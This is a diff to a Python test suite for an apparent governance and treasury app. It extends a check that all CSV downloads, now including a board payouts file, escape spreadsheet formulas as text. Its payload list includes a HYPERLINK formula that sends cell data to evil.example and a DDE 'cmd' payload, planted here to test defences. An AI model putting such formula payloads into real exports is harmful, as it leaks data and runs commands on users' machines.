@@ -22,6 +22,8 @@ from govern.ledger import exchange, transfers
 from govern.members import service as members
 from govern.money import Money
 from govern.proposals import service as proposals
+from tests.conftest import TEST_PASSWORD
+from tests.funding import buy_rsc
 from tests.security.conftest import build_scenario, log_in
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
@@ -34,7 +36,7 @@ def planted(app, now):
     scenario = build_scenario(db.session, now)
     member = members.get_member(db.session, scenario.member_id)
     admin = members.get_member(db.session, scenario.admin_id)
-    exchange.convert(db.session, admin, "usd_to_rsc", Money(1_000, "USD"), now)
+    buy_rsc(db.session, admin, 1_000, now)
     for n, text in enumerate(FORMULAS):
         inventory.add_item(db.session, region_id=scenario.region_id, item=text, kind="equipment", cost_minor=100 + n,
                            currency="RSC", holder_company_id=None, proposal_id=None, now=now)
@@ -43,6 +45,11 @@ def planted(app, now):
                                              payload={}, closes_at=now + timedelta(days=1), now=now,
                                              min_voting_seconds=1, voting_request=None)
         proposals.close_proposal(db.session, proposal.id, now + timedelta(days=2))
+    # A member whose name is a formula cashes out: the board's payouts file for the bank names them.
+    hostile = members.join(db.session, email="cell@example.org", name=FORMULAS[0], password=TEST_PASSWORD,
+                           region_id=scenario.region_id, now=now)
+    transfers.transfer(db.session, admin, hostile.id, Money(100, "RSC"), "for the bank file", now)
+    exchange.convert(db.session, hostile, "rsc_to_usd", Money(100, "RSC"), now)
     return scenario
 
 
@@ -62,13 +69,16 @@ def _csv_urls(app, client) -> list[str]:
 
 
 def test_every_csv_download_keeps_formulas_as_text(app, planted):
-    client = app.test_client()
+    client, board = app.test_client(), app.test_client()
     log_in(client, planted.member_email)
+    log_in(board, planted.board_email)
     urls = _csv_urls(app, client)
     assert "/inventory.csv" in urls and "/me/statement.csv" in urls and len(urls) >= 10
     seen = set()
     for url in urls:
         response = client.get(url)
+        if response.status_code == 404:  # the board's own downloads (the payouts file for the bank)
+            response = board.get(url)
         assert response.status_code == 200 and response.mimetype == "text/csv", url
         for row in csv.reader(io.StringIO(response.get_data(as_text=True), newline="")):
             for cell in row:
@@ -77,7 +87,7 @@ def test_every_csv_download_keeps_formulas_as_text(app, planted):
                 if cell[1:] in FORMULAS and cell.startswith("'"):
                     seen.add((url.split("?")[0], cell[1:]))
     shown_in = {url for url, _ in seen}
-    assert {"/inventory.csv", "/me/statement.csv", "/records/proposals.csv"} <= shown_in
+    assert {"/inventory.csv", "/me/statement.csv", "/records/proposals.csv", "/treasury/payouts.csv"} <= shown_in
     assert {text for url, text in seen if url == "/inventory.csv"} == set(FORMULAS)
 
 
